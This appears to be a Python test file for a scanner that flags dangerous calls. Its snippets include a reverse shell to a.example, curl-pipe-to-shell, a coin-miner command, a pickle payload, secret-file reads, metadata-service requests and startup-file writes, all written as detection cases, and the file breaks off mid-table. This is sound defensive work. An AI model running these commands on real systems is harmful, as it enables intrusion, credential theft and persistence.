"""What a call of foreign code must do to be a finding, and what almost the same call does not do."""

from collections.abc import Mapping

from tests.support.foreign_code import wrongly_seen

NAMES: Mapping[str, list[str]] = {
    "os.system('ls')": ["tool: `ls`"],
    "getattr(os, 'system')('ls')": [
        "hidden-name: calls `os.system` by a name that it builds or looks up",
        "tool: `ls`",
    ],
    "getattr(odd, 'loads')(unknown)": ["hidden-name: calls `odd.loads` by a name that it builds or looks up"],
    "getattr(subprocess, 'run')('ls')": [
        "hidden-name: calls `subprocess.run` by a name that it builds or looks up",
        "tool: `ls`",
    ],
    "getattr(odd, 'run')('ls')": [],
    "getattr(urllib.request, 'urlopen')('https://a.example')": [
        "hidden-name: calls `urllib.request.urlopen` by a name that it builds or looks up",
        "network: `urllib.request.urlopen` to `https://a.example`",
    ],
    "odd.loads(unknown)": [],
}


def test_a_dangerous_thing_under_a_built_name_is_hidden() -> None:
    assert not wrongly_seen(NAMES)


EXECUTED: Mapping[str, list[str]] = {
    "exec('1')": ["dynamic: `exec`"],
    "eval(unknown)": ["dynamic: `eval`"],
    "exec(fetched)": ["dynamic: `exec`", "fetched-code: `exec` of what `fetched()` fetches"],
    "eval(source=fetched)": ["dynamic: `eval`", "fetched-code: `eval` of what `fetched()` fetches"],
    "types.FunctionType(code=fetched)": [
        "dynamic: `types.FunctionType`",
        "fetched-code: `types.FunctionType` of what `fetched()` fetches",
    ],
    "exec(object=fetched)": ["dynamic: `exec`", "fetched-code: `exec` of what `fetched()` fetches"],
    "exec(unknown, fetched)": ["dynamic: `exec`"],
    "exec(variable)": ["dynamic: `exec`", "decoded-code: `exec` of `variable()`"],
    "eval(variable)": ["dynamic: `eval`"],
    "exec(decoded)": ["dynamic: `exec`", "decoded-code: `exec` of what `decoded()` gives"],
    "eval(decoded)": ["dynamic: `eval`", "decoded-code: `eval` of what `decoded()` gives"],
    "exec(data_file)": ["dynamic: `exec`", "decoded-code: `exec` of what `data-file()` gives"],
    "eval(data_file)": ["dynamic: `eval`"],
    "compile(data_file, 'a', 'exec')": ["dynamic: `compile`", "decoded-code: `compile` of what `data-file()` gives"],
    "types.FunctionType(decoded)": [
        "dynamic: `types.FunctionType`",
        "decoded-code: `types.FunctionType` of what `decoded()` gives",
    ],
    "odd.exec(decoded)": [],
}


def test_code_made_of_data_is_judged_by_the_source_of_the_data() -> None:
    assert not wrongly_seen(EXECUTED)


LOADED: Mapping[str, list[str]] = {
    "pickle.loads(unknown)": ["dynamic: `pickle.loads`"],
    "pickle.loads(fetched)": ["dynamic: `pickle.loads`", "fetched-code: `pickle.loads` of what `fetched()` fetches"],
    "pickle.loads(unknown, fetched)": ["dynamic: `pickle.loads`"],
    "pickle.loads(decoded)": ["dynamic: `pickle.loads`", "loads-decoded: `pickle.loads` of what `decoded()` gives"],
    "marshal.loads(decoded)": ["dynamic: `marshal.loads`"],
    "pickle.loads(b'cos\\nsystem\\n.')": [
        "dynamic: `pickle.loads`",
        "decoded-code: `pickle.loads` of bytes that call something",
    ],
    "marshal.loads(b'cos\\nsystem\\n.')": ["dynamic: `marshal.loads`"],
    "pickle.loads(b'cdatetime\\nsystem\\n.')": ["dynamic: `pickle.loads`"],
    "odd.loads(decoded)": [],
    "pickle.load(file=fetched)": ["dynamic: `pickle.load`", "fetched-code: `pickle.load` of what `fetched()` fetches"],
    "pickle.loads(base64.b64decode('Y29zCnN5c3RlbQou'))": [
        "dynamic: `pickle.loads`",
        "decoded-code: `pickle.loads` of bytes that call something",
    ],
    "pickle.loads(base64.b64decode('Y2RhdGV0aW1lCnN5c3RlbQou'))": [
        "dynamic: `pickle.loads`",
        "loads-decoded: `pickle.loads` of what `base64.b64decode` gives",
    ],
    "_pickle.load(decoded)": ["dynamic: `_pickle.load`", "loads-decoded: `_pickle.load` of what `decoded()` gives"],
    "pickle.Unpickler(io.BytesIO(decoded)).load()": [
        "dynamic: `pickle.Unpickler`",
        "loads-decoded: `pickle.Unpickler` of what `decoded()` gives",
    ],
    "_pickle.Unpickler(file=fetched).load()": [
        "dynamic: `_pickle.Unpickler`",
        "fetched-code: `_pickle.Unpickler` of what `fetched()` fetches",
    ],
    "marshal.load(file=decoded)": ["dynamic: `marshal.load`"],
}


def test_objects_made_of_data_are_judged_by_the_source_of_the_data() -> None:
    assert not wrongly_seen(LOADED)


COMMANDS: Mapping[str, list[str]] = {
    "os.system(unknown)": ["tool: `…`"],
    "os.system(command='oddtool a')": ["process: `oddtool a`"],
    "subprocess.run(args=['oddtool', unknown])": ["process: `oddtool …`"],
    "subprocess.getoutput(cmd='oddtool a')": ["process: `oddtool a`"],
    "pty.spawn(argv='oddtool a')": ["process: `oddtool a`"],
    "os.spawnl(0, 'oddtool', 'a')": ["process: `oddtool`"],
    "os.spawnlpe(0, 'oddtool', 'a', {})": ["process: `oddtool`"],
    "os.spawnvpe(0, 'oddtool', ['a'], {})": ["process: `oddtool`"],
    "os.execlpe('oddtool', 'a', {})": ["process: `oddtool`"],
    "os.posix_spawn('oddtool', ['a'], {})": ["process: `oddtool`"],
    "asyncio.create_subprocess_exec('oddtool', 'a')": ["process: `oddtool a`"],
    "asyncio.create_subprocess_shell('oddtool', 'a')": ["process: `oddtool`"],
    "asyncio.create_subprocess_shell('oddtool a')": ["process: `oddtool a`"],
    "subprocess.run('oddtool', 'a')": ["process: `oddtool`"],
    "odd.run('oddtool a')": [],
    "os.spawnl(0, 'oddtool', 'a', 'b')": ["process: `oddtool b`"],
    "os.spawnvp(0, 'oddtool', ['a', 'b'])": ["process: `oddtool b`"],
    "os.spawnle(0, 'oddtool', 'a', 'b', {'c': 'd'})": ["process: `oddtool b`"],
    "os.execl('oddtool', 'a', 'b')": ["process: `oddtool b`"],
    "os.execlpe('oddtool', 'a', 'b', unknown)": ["process: `oddtool b`"],
    "os.execvp('oddtool', ['a', 'b', unknown])": ["process: `oddtool b …`"],
    "os.execvpe('oddtool', ['a', 'b'], ['c'])": ["process: `oddtool b`"],
    "os.execve(path='oddtool', argv=['a', 'b'], env={})": ["process: `oddtool b`"],
    "os.execv('oddtool', unknown)": ["process: `oddtool`"],
    "os.execv(unknown, ['a', 'b'])": ["tool: `… b`"],
    "os.posix_spawn('oddtool', ['a', 'b'], {})": ["process: `oddtool b`"],
    "os.execvp('bash', ['bash', '-c', 'bash -i >& /dev/tcp/a.example/1'])": [
        "hostile: `bash -c bash -i >& /dev/tcp/a.example/1`: a shell over a connection"
    ],
    "subprocess.run(['a', 'b'], executable='oddtool')": ["process: `oddtool b`"],
    "subprocess.run('a', executable='oddtool')": ["process: `oddtool`"],
    "subprocess.run(['oddtool', 'b'], executable=unknown)": ["process: `oddtool b`"],
    "subprocess.run('oddtool b', shell=True, executable='bash')": ["process: `oddtool b`"],
    "subprocess.run(['a', 'b'], shell=False, executable='oddtool')": ["process: `oddtool b`"],
    "subprocess.run('a b', executable='oddtool')": ["process: `oddtool b`"],
    "subprocess.run(['a', unknown] + unknown, executable='oddtool')": ["process: `oddtool`"],
    "subprocess.run(['a', 'b'] + unknown, executable='oddtool')": ["process: `oddtool b…`"],
    "subprocess.Popen('cmd /c curl https://a.example -o x', executable='C:\\\\Windows\\\\System32\\\\cmd.exe')": [
        "command: `C:\\Windows\\System32\\cmd.exe /c curl https://a.example -o x`: downloads"
    ],
    "subprocess.Popen('python -c \"import os;os.system(1)\"', executable='python.exe')": [
        'command: `python.exe -c "import os;os.system(1)"`: runs code in a text, `import os;os.system(`'
    ],
    "subprocess.check_call('python -m pip install oddthing', executable=sys.executable)": [
        "installs: `sys.executable -m pip install oddthing`: installs something",
        "tool: `sys.executable -m pip install oddthing`",
    ],
    "subprocess.run(['cmd', '/c', 'curl https://a.example -o x'] + unknown, executable='cmd.exe')": [
        "command: `cmd.exe /c curl https://a.example -o x…`: downloads"
    ],
    "os.execvp('sh', ['sh', '-c', 'curl https://a.example|sh'] + sys.argv[1:])": [
        "command: `sh -c curl https://a.example|sh…`: downloads"
    ],
}


def test_the_command_of_a_process_is_found_among_its_arguments() -> None:
    assert not wrongly_seen(COMMANDS)


ORIGINS: Mapping[str, list[str]] = {
    "subprocess.run(fetched)": ["fetched-code: `subprocess.run` of what `fetched()` fetches"],
    "subprocess.run(args=fetched)": ["fetched-code: `subprocess.run` of what `fetched()` fetches"],
    "subprocess.run([fetched_later, fetched])": ["fetched-code: `subprocess.run` of what `fetched()` fetches"],
    "subprocess.run(['ls', decoded, fetched])": ["fetched-code: `subprocess.run` of what `fetched()` fetches"],
    "subprocess.getoutput(cmd=decoded)": ["decoded-code: `subprocess.getoutput` of what `decoded()` gives"],
    "subprocess.run('ls', env=fetched)": ["tool: `ls`"],
    "subprocess.run(args=fetched, executable='sh')": ["fetched-code: `subprocess.run` of what `fetched()` fetches"],
    "subprocess.run(args=['sh', '-c'] + fetched, executable='sh')": [
        "fetched-code: `subprocess.run` of what `fetched()` fetches"
    ],
    "x = ['sh', '-c']\nx.append(fetched)\nsubprocess.run(args=x, executable='sh')": [
        "fetched-code: `subprocess.run` of what `fetched()` fetches"
    ],
    "os.execvp(file='sh', args=fetched.split())": ["fetched-code: `os.execvp` of what `fetched()` fetches"],
    "os.system(command=fetched)": ["fetched-code: `os.system` of what `fetched()` fetches"],
    "pty.spawn(argv=decoded)": ["decoded-code: `pty.spawn` of what `decoded()` gives"],
    "subprocess.run(['sh'], input=fetched)": ["fetched-code: `subprocess.run` of what `fetched()` fetches"],
    "subprocess.run('/bin/bash', input=fetched)": ["fetched-code: `subprocess.run` of what `fetched()` fetches"],
    "subprocess.run(['python3', '-u', '-'], input=decoded)": [
        "decoded-code: `subprocess.run` of what `decoded()` gives"
    ],
    "subprocess.check_output([sys.executable], input=fetched)": [
        "fetched-code: `subprocess.check_output` of what `fetched()` fetches"
    ],
    "subprocess.run(['python3', 'a.py'], input=fetched)": ["tool: `python3 a.py`"],
    "subprocess.run(['python3', '-c', 'print(1)'], input=fetched)": ["tool: `python3 -c print(1)`"],
    "subprocess.run(['ls'], input=fetched)": ["tool: `ls`"],
    "subprocess.run(['sh'], stdin=fetched)": ["process: `sh`"],
    "subprocess.Popen(['sh'], stdin=-1).communicate(fetched)": [
        "process: `sh`",
        "fetched-code: `subprocess.Popen().communicate` of what `fetched()` fetches",
    ],
    "with subprocess.Popen('/bin/bash', stdin=-1) as p:\n    p.stdin.write(decoded)": [
        "process: `/bin/bash`",
        "decoded-code: `subprocess.Popen().stdin.write` of what `decoded()` gives",
    ],
    "p = os.popen('python -', 'w')\np.write(fetched)": [
        "tool: `python -`",
        "fetched-code: `os.popen().write` of what `fetched()` fetches",
    ],
    "subprocess.Popen(['cat'], stdin=-1).communicate(fetched)": ["tool: `cat`"],
    "subprocess.Popen(['sh', 'a.sh'], stdin=-1).communicate(input=fetched)": ["process: `sh a.sh`"],
    "subprocess.Popen(['sh'], stdin=-1).communicate(unknown)": ["process: `sh`"],
    "subprocess.Popen(['sh'], stdin=-1).communicate('echo')": ["process: `sh`"],
    "odd.Popen2(['sh'], stdin=-1).communicate(fetched)": [],
    "(await asyncio.create_subprocess_exec('sh', stdin=-1)).communicate(fetched)": [
        "process: `sh`",
        "fetched-code: `asyncio.create_subprocess_exec().communicate` of what `fetched()` fetches",
    ],
    "(await asyncio.create_subprocess_exec('sh', 'a.sh')).communicate(fetched)": ["process: `sh a.sh`"],
    "subprocess.Popen(['tee', 'a.py']).stdin.write(fetched)\nos.system('oddtool')": [
        "tool: `tee a.py`",
        "drops: starts `oddtool` after it fetched a file",
        "process: `oddtool`",
    ],
    "subprocess.Popen(['tee', 'a.py']).stdin.write('curl https://a.example')": [
        "tool: `tee a.py`",
        "hidden-text: writes code into a file: `curl https:`",
    ],
}


def test_a_process_of_fetched_or_decoded_data_is_that_alone() -> None:
    assert not wrongly_seen(ORIGINS)


CARRIED: Mapping[str, list[str]] = {
    "os.system(f'curl https://a.example -d {host}')": [
        "sends: hands names of this machine or user (`host()`) to `curl https://a.example -d …`",
        "command: `curl https://a.example -d …`: downloads",
    ],
    "os.system(f'sh -c \"curl {host}\"')": [
        'sends: hands names of this machine or user (`host()`) to `sh -c "curl …"`',
        'command: `sh -c "curl …"`: downloads',
    ],
    "os.system(f'oddtool {host}')": ["process: `oddtool …`"],
    "os.system(f'oddtool {secret}')": ["sends: hands secrets (`secret()`) to `oddtool …`", "process: `oddtool …`"],
    "os.system(f'oddtool {environment}')": [
        "sends: hands the environment (`environment()`) to `oddtool …`",
        "process: `oddtool …`",
    ],
    "subprocess.run(args=['oddtool', secret])": [
        "sends: hands secrets (`secret()`) to `oddtool …`",
        "process: `oddtool …`",
    ],
    "subprocess.getoutput(cmd=f'oddtool {secret}')": [
        "sends: hands secrets (`secret()`) to `oddtool …`",
        "process: `oddtool …`",
    ],
    "os.system(command=f'oddtool {secret}')": [
        "sends: hands secrets (`secret()`) to `oddtool …`",
        "process: `oddtool …`",
    ],
    "os.spawnl(secret, 'oddtool')": ["process: `oddtool`"],
    "subprocess.run(['oddtool'], secret)": ["process: `oddtool`"],
    "os.system('curl https://a.example')": ["command: `curl https://a.example`: downloads"],
    "asyncio.create_subprocess_exec('oddtool', '-a', secret)": [
        "sends: hands secrets (`secret()`) to `oddtool -a …`",
        "process: `oddtool -a …`",
    ],
    "os.spawnl(0, f'oddtool {secret}')": ["sends: hands secrets (`secret()`) to `oddtool …`", "process: `oddtool …`"],
}


def test_a_command_sends_secrets_and_a_sending_program_also_names() -> None:
    assert not wrongly_seen(CARRIED)


WEIGHED: Mapping[str, list[str]] = {
    "os.system('sh -c \"xmrig -o a\"')": ['hostile: `sh -c "xmrig -o a"`: mines coins'],
    "os.system('pip install odd')": ["installs: `pip install odd`: installs something", "tool: `pip install odd`"],
    "os.system('sudo pip install odd')": [
        "installs: `sudo pip install odd`: installs something",
        "tool: `sudo pip install odd`",
    ],
    "os.startfile('a.docx')": ["command: `a.docx`: opens a file by its type"],
    "startfile('a.docx')": ["command: `a.docx`: opens a file by its type"],
    "os.system('hostname')": ["asks: `hostname`: asks who and where it is"],
    "os.system('oddtool')": ["process: `oddtool`"],
    "os.system('/opt/git/bin/git log')": ["tool: `/opt/git/bin/git log`"],
    "os.system(f'/{unknown}')": ["process: `/…`"],
    "os.system(f'./{unknown}')": ["process: `./…`"],
    "os.system(f'{unknown}/')": ["tool: `…/`"],
    "subprocess.run(['python', '-c', 'import os;os.system(1)'])": [
        "command: `python -c import os;os.system(1)`: runs code in a text, `import os;os.system(`"
    ],
    "subprocess.run(['python', '-c', 'print(1)'])": ["tool: `python -c print(1)`"],
    "subprocess.run(['python', '-m', 'import os;os.system(1)'])": ["tool: `python -m import os;os.system(1)`"],
    "subprocess.run(['python'], input='import os;os.system(1)')": [
        "command: `python <<< import os;os.system(1)`: runs code in a text, `import os;os.system(`"
    ],
    "subprocess.run('sh', input='bash -i >& /dev/tcp/a.example/1')": [
        "hostile: `sh <<< bash -i >& /dev/tcp/a.example/1`: a shell over a connection"
    ],
    "subprocess.run('sh', input='curl https://a.example')": ["command: `sh <<< curl https://a.example`: downloads"],
    "subprocess.run('sh', input=unknown)": ["process: `sh`"],
    "subprocess.Popen('sh', stdin=-1).communicate(input='curl https://a.example')": [
        "process: `sh`",
        "command: `sh <<< curl https://a.example`: downloads",
    ],
    "subprocess.run('cat', input='curl https://a.example')": ["tool: `cat`"],
}


def test_a_process_is_weighed_by_its_words() -> None:
    assert not wrongly_seen(WEIGHED)


SILENT: Mapping[str, list[str]] = {
    "subprocess.run(['./oddtool'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)": [
        "command: `./oddtool`: starts a file of its own, with no output"
    ],
    "subprocess.run(['./oddtool'], stdout=-3, stderr=subprocess.DEVNULL)": [
        "command: `./oddtool`: starts a file of its own, with no output"
    ],
    "subprocess.run(['./oddtool'], stdout=subprocess.DEVNULL, stderr=-3)": [
        "command: `./oddtool`: starts a file of its own, with no output"
    ],
    "subprocess.run(['./oddtool'], stdout=subprocess.DEVNULL)": ["process: `./oddtool`"],
    "subprocess.run(['./oddtool'], stderr=subprocess.DEVNULL)": ["process: `./oddtool`"],
    "subprocess.run(['./oddtool'], stdout=subprocess.DEVNULL, stderr=-2)": [
        "command: `./oddtool`: starts a file of its own, with no output"
    ],
    "subprocess.run(['./oddtool'], stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT)": [
        "command: `./oddtool`: starts a file of its own, with no output"
    ],
    "subprocess.run(['./oddtool'], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)": ["process: `./oddtool`"],
    "subprocess.run(['./git'], stdout=-3, stderr=-3)": ["tool: `./git`"],
    "subprocess.run([unknown + '/oddtool'], stdout=-3, stderr=-3)": [
        "command: `…/oddtool`: starts a file of its own, with no output"
    ],
    "subprocess.run([unknown, '--version'], stdout=-3, stderr=-2)": ["tool: `… --version`"],
    "subprocess.run([unknown, '-V'], stdout=-3, stderr=-3)": ["tool: `… -V`"],
    "subprocess.run([unknown, '-V', 'a'], stdout=-3, stderr=-3)": [
        "command: `… -V a`: starts a file of its own, with no output"
    ],
    "subprocess.run(['./oddtool', '--version'], stdout=-3, stderr=-3)": [
        "command: `./oddtool --version`: starts a file of its own, with no output"
    ],
    "subprocess.run(['sh', __file__], stdout=-3, stderr=-3)": [
        "command: `sh __file__`: starts a file of its own, with no output"
    ],
    "subprocess.run(['sh', 'a'], stdout=-3, stderr=-3)": ["process: `sh a`"],
    "subprocess.run('sh ./', stdout=-3, stderr=-3)": ["process: `sh ./`"],
}


def test_a_file_of_its_own_that_starts_with_no_output_is_a_command() -> None:
    assert not wrongly_seen(SILENT)


DETACHED: Mapping[str, list[str]] = {
    "subprocess.run(['git'], stdout=-3, stderr=-3)": ["tool: `git`"],
    "subprocess.run(['git'], stdout=-3, stderr=-3, start_new_session=True)": ["process: `git`"],
    "subprocess.run(['git'], stdout=-3, stderr=-3, start_new_session=False)": ["tool: `git`"],
    "subprocess.run(['git'], stdout=-3, stderr=-3, creationflags=8)": ["process: `git`"],
    "subprocess.run(['git'], stdout=-3, stderr=-3, stdin=subprocess.DEVNULL)": ["process: `git`"],
    "subprocess.run(['git'], stdout=-3, stderr=-3, stdin=-3)": ["process: `git`"],
    "subprocess.run(['git'], stdout=-3, stderr=-3, stdin=-1)": ["tool: `git`"],
    "subprocess.run(['git'], stdout=-3, creationflags=8)": ["tool: `git`"],
}


def test_a_harmless_program_that_runs_on_by_itself_is_a_process() -> None:
    assert not wrongly_seen(DETACHED)


LOOKUPS: Mapping[str, list[str]] = {
    "socket.gethostbyname(f'{host}.x.example')": [
        "sends: `socket.gethostbyname` of a name that contains names of this machine or user (`host()`)"
    ],
    "socket.getaddrinfo(host=f'{host}.x.example', port=1)": [
        "sends: `socket.getaddrinfo` of a name that contains names of this machine or user (`host()`)"
    ],
    "dns.resolver.resolve(qname=f'{host}.x.example')": [
        "sends: `dns.resolver.resolve` of a name that contains names of this machine or user (`host()`)"
    ],
    "socket.getaddrinfo('a.example', f'{host}.x.example')": [],
    "socket.gethostbyname(f'{unknown}.x.example')": [],
    "socket.gethostbyname(host)": [],
    "socket.gethostbyname(host_without_gap)": [],
    "socket.gethostbyname(f'{host}.example')": [],
    "socket.gethostbyname_later(f'{host}.x.example')": [],
}


def test_a_look_up_sends_only_data_in_front_of_a_domain() -> None:
    assert not wrongly_seen(LOOKUPS)


NETWORK: Mapping[str, list[str]] = {
    "requests.get('https://a.example')": ["network: `requests.get` to `https://a.example`"],
    "requests.get(unknown, 'https://a.example')": ["network: `requests.get` to `https://a.example`"],
    "requests.getter('https://a.example')": [],
    "odd.get('https://a.example')": [],
    "urllib.request.urlopen('https://a.example')": ["network: `urllib.request.urlopen` to `https://a.example`"],
    "socket.socket().connect(('a.example', 443))": ["network: `socket.socket().connect`"],
    "requests.post('https://a.example', [other_host, host])": [
        "sends: `requests.post` with names of this machine or user (`host()`)",
        "network: `requests.post` to `https://a.example`",
    ],
    "requests.post('https://a.example', [host, secret])": [
        "sends: `requests.post` with secrets (`secret()`)",
        "network: `requests.post` to `https://a.example`",
    ],
    "requests.post('https://a.example', [host, secret, environment])": [
        "sends: `requests.post` with the environment (`environment()`)",
        "network: `requests.post` to `https://a.example`",
    ],
    "socket.socket(secret).send('a')": [
        "sends: `socket.socket().send` with secrets (`secret()`)",
        "network: `socket.socket().send`",
    ],
    "requests.post('https://a.example', unknown, read)": [
        "sends-file: `requests.post` with what `read()` gives",
        "network: `requests.post` to `https://a.example`",
    ],
    "requests.get('http://169.254.169.254/latest')": [
        "metadata: asks the cloud's metadata service, which has credentials",
        "network: `requests.get` to `http://169.254.169.254/latest`",
    ],
    "requests.get('http://metadata.google.internal/')": [
        "metadata: asks the cloud's metadata service, which has credentials",
        "network: `requests.get` to `http://metadata.google.internal/`",
    ],
    "requests.request('GET', 'http://203.0.113.7/')": [
        "address: `requests.request` to `http://203.0.113.7`, an address without a name",
        "network: `requests.request` to `http://203.0.113.7/`",
    ],
    "requests.get('http://10.0.0.7/')": ["network: `requests.get` to `http://10.0.0.7/`"],
}


def test_a_connection_is_judged_by_what_it_sends_and_to_whom() -> None:
    assert not wrongly_seen(NETWORK)


DOWNLOADS: Mapping[str, list[str]] = {
    "urllib.request.urlretrieve('https://a.example', '/tmp/a.exe')": [
        "network: `urllib.request.urlretrieve` to `https://a.example`",
        "drops: fetches a program, `/tmp/a.exe`",
    ],
    "urlretrieve('https://a.example', filename='a.exe')": [
        "network: `urlretrieve` to `https://a.example`",
        "drops: fetches a program, `a.exe`",
    ],
    "wget.download('https://a.example', out='a.exe')": [
        "network: `wget.download` to `https://a.example`",
        "drops: fetches a program, `a.exe`",
    ],
    "wget.download('https://a.example', 'a.txt', 'a.exe')": ["network: `wget.download` to `https://a.example`"],
    "wget.download('https://a.example'); os.system('oddtool')": [
        "network: `wget.download` to `https://a.example`",
        "drops: starts `oddtool` after it fetched a file",
        "process: `oddtool`",
    ],
    "urlretrieve('https://a.example'); os.system('ls')": [
        "network: `urlretrieve` to `https://a.example`",
        "tool: `ls`",
    ],
    "requests.get('https://a.example', 'a.exe'); os.system('oddtool')": [
        "network: `requests.get` to `https://a.example`",
        "process: `oddtool`",
    ],
}


def test_a_download_into_a_file_is_remembered() -> None:
    assert not wrongly_seen(DOWNLOADS)


OPENED: Mapping[str, list[str]] = {
    "open('~/.netrc')": ["secrets: opens `~/.netrc`"],
    "io.open('~/.netrc')": ["secrets: opens `~/.netrc`"],
    "os.open('~/.netrc')": ["secrets: opens `~/.netrc`"],
    "codecs.open('~/.netrc')": ["secrets: opens `~/.netrc`"],
    "odd.open('~/.netrc')": [],
    "open(file='~/.netrc')": ["secrets: opens `~/.netrc`"],
    "os.open(path='~/.netrc')": ["secrets: opens `~/.netrc`"],
    "open(unknown, '~/.netrc')": [],
    "open('a.txt')": [],
    "pathlib.Path('~/.netrc').open()": ["secrets: opens `~/.netrc`"],
    "pathlib.Path('~/.netrc').read_text('ascii')": ["secrets: opens `~/.netrc`"],
    "pathlib.Path('~/.netrc').read_bytes()": ["secrets: opens `~/.netrc`"],
    "pathlib.Path('a.txt').read_bytes()": [],
    f"open('/{'x' * 71}/.netrc')": [f"secrets: opens `/{'x' * 71}/.netrc`"],
    f"open('/{'x' * 72}/.netrc')": ["secrets: opens `/.netrc`"],
}


def test_a_file_with_secrets_is_a_finding_if_it_is_opened() -> None:
    assert not wrongly_seen(OPENED)


WRITTEN: Mapping[str, list[str]] = {
    "open('~/.bashrc', 'a')": ["startup: writes `~/.bashrc`"],
    "open('~/.bashrc', 'r+')": ["startup: writes `~/.bashrc`"],
    "open('~/.bashrc', 'rb')": [],
    "open('~/.bashrc', 'rb', 'w')": [],
    "open('~/.bashrc')": [],
    "open(file='~/.bashrc', mode='w')": ["startup: writes `~/.bashrc`"],
    "pathlib.Path('~/.bashrc').open('w')": ["startup: writes `~/.bashrc`"],
    "pathlib.Path('~/.bashrc').open('r', 'w')": [],
    "pathlib.Path('~/.bashrc').read_text('ascii')": [],
    "pathlib.Path('~/.bashrc').write_text('x')": ["startup: writes `~/.bashrc`"],
    "pathlib.Path('~/.bashrc').write_bytes(b'x')": ["startup: writes `~/.bashrc`"],
    "pathlib.Path('~/.netrc').write_bytes(b'x')": [],
    "open('odd.pth', 'w')": ["startup: writes `odd.pth`, which Python reads"],
    "open('/x/site-packages/odd.py', 'w')": ["startup: writes `/x/site-packages/odd.py`, which Python reads"],
    "open('.pth/odd.py', 'w')": [],
    "open('/x/.git/hooks/pre-commit', 'w')": [
        "tool-settings: writes `/x/.git/hooks/pre-commit`, by which git, an editor or an agent runs commands"
    ],
    "pathlib.Path('/tmp/a').write_text(fetched, 'utf-8'); os.system('oddtool')": [
        "drops: starts `oddtool` after it fetched a file",
        "process: `oddtool`",
    ],
    "pathlib.Path('/tmp/a').write_bytes(fetched); os.system('oddtool')": [
        "drops: starts `oddtool` after it fetched a file",
        "process: `oddtool`",
    ],
    "pathlib.Path('/tmp/a').write_text('x'); os.system('oddtool')": ["process: `oddtool`"],
    "open(f'/tmp/{fetched}', 'w'); os.system('oddtool')": ["process: `oddtool`"],
    "os.open('~/.bashrc', os.O_WRONLY | os.O_NOFOLLOW)": ["startup: writes `~/.bashrc`"],
    "os.open('~/.bashrc', flags=os.O_RDWR)": ["startup: writes `~/.bashrc`"],
    f"os.open('~/.bashrc', os.O_CREAT, 0x{'f' * 5000})": ["startup: writes `~/.bashrc`"],
    "os.open('~/.bashrc', getattr(os, 'O_CREAT'))": ["startup: writes `~/.bashrc`"],
    "os.open('~/.bashrc', os.NO_CREAT)": [],
    "os.open('~/.bashrc', os.O_RDONLY)": [],
    "os.open('~/.bashrc', 'w')": [],
    "shutil.move('a', '~/.bashrc')": ["startup: writes `~/.bashrc`"],
    "os.rename('a', dst='~/.bashrc')": ["startup: writes `~/.bashrc`"],
    "os.replace('a', '.git/hooks/pre-commit')": [
        "tool-settings: writes `.git/hooks/pre-commit`, by which git, an editor or an agent runs commands"
    ],
    "os.rename('~/.bashrc', 'a')": [],
    "pathlib.Path('a').rename('~/.bashrc')": ["startup: writes `~/.bashrc`"],
    "pathlib.Path('a').replace(target='~/.bashrc')": ["startup: writes `~/.bashrc`"],
    "pathlib.Path('~/.bashrc').rename('a')": [],
    "'a'.replace('a', '~/.bashrc')": [],
    "os.chmod('a', '~/.bashrc')": [],
}


def test_a_file_that_is_read_at_a_start_is_a_finding_if_it_is_written() -> None:
    assert not wrongly_seen(WRITTEN)


PLACES: Mapping[str, list[str]] = {
    "os.listdir('~/.ssh')": ["secrets: `os.listdir` of `~/.ssh`"],
    "os.listdir('a')": [],
    "shutil.copy('~/.netrc', 'a')": ["secrets: `shutil.copy` of `~/.netrc`"],
    "shutil.copy('a', '~/.netrc')": ["secrets: `shutil.copy` of `~/.netrc`"],
    "shutil.copy('a', 'b', '~/.netrc')": [],
    "shutil.copy('a', '~/.bashrc')": ["startup: writes `~/.bashrc`"],
    "shutil.copy('~/.bashrc', 'a')": [],
    "shutil.copy('a')": [],
    "odd.copy('a', '~/.bashrc')": [],
    "shutil.copy(src='~/.netrc', dst='a')": ["secrets: `shutil.copy` of `~/.netrc`"],
    "shutil.copy(src='a', dst='~/.bashrc')": ["startup: writes `~/.bashrc`"],
    "shutil.copy(src='a', dst='~/.netrc')": ["secrets: `shutil.copy` of `~/.netrc`"],
    "os.listdir(path='~/.ssh')": ["secrets: `os.listdir` of `~/.ssh`"],
    "glob.glob(pathname='~/.ssh/*')": ["secrets: `glob.glob` of `~/.ssh/*`"],
    "os.walk(top='~/.ssh')": ["secrets: `os.walk` of `~/.ssh`"],
    "sqlite3.connect(database='~/.netrc')": ["secrets: `sqlite3.connect` of `~/.netrc`"],
    "paramiko.connect(key_filename='~/.netrc')": [],
}


def test_places_of_secrets_are_findings_if_they_are_listed_or_copied() -> None:
    assert not wrongly_seen(PLACES)


FETCHED_FILES: Mapping[str, list[str]] = {
    "open('/tmp/a', 'w').write(fetched); os.system('oddtool')": [
        "drops: starts `oddtool` after it fetched a file",
        "process: `oddtool`",
    ],
    "open('/tmp/a', 'w').writelines([fetched]); os.system('oddtool')": [
        "drops: starts `oddtool` after it fetched a file",
        "process: `oddtool`",
    ],
    "open('/tmp/a', 'w').write('x'); os.system('oddtool')": ["process: `oddtool`"],
    "open('/tmp/a.exe', 'w').write(fetched)": ["drops: writes what `fetched()` fetches as a program, `/tmp/a.exe`"],
    "open('/tmp/a.exe', 'w').write('x')": [],
    "os.write(3, fetched); os.system('oddtool')": [
        "drops: starts `oddtool` after it fetched a file",
        "process: `oddtool`",
    ],
    "os.write(3, fetched); os.system('ls')": ["tool: `ls`"],
    "shutil.copyfileobj(fetched, open('/tmp/a.exe', 'w'))": [
        "drops: writes what `fetched()` fetches as a program, `/tmp/a.exe`"
    ],
    "shutil.copyfileobj(fetched, open('/tmp/a', 'w')); os.system('oddtool')": [
        "drops: starts `oddtool` after it fetched a file",
        "process: `oddtool`",
    ],
    "shutil.copyfileobj(unknown, open('/tmp/a.exe', 'w')); os.system('oddtool')": ["process: `oddtool`"],
    "os.write(3, fetched); runpy.run_path('a')": ["drops: runs a file that it fetched: `runpy.run_path`"],
    "os.write(3, fetched); odd.exec_module(unknown)": ["drops: runs a file that it fetched: `odd.exec_module`"],
    "os.write(3, fetched); odd.load_module('a')": ["drops: runs a file that it fetched: `odd.load_module`"],
    "os.write(3, fetched); SourceFileLoader('a', 'b')": ["drops: runs a file that it fetched: `SourceFileLoader`"],
    "runpy.run_path('a')": [],
    "os.write(3, fetched); os.chmod('a', 1)": ["drops: fetches a file and makes it a program: `os.chmod`"],
    "os.write(3, fetched); pathlib.Path('a').chmod(1)": [
        "drops: fetches a file and makes it a program: `pathlib.Path().chmod`"
    ],
    "os.write(3, fetched); odd.chmod_later(1)": [],
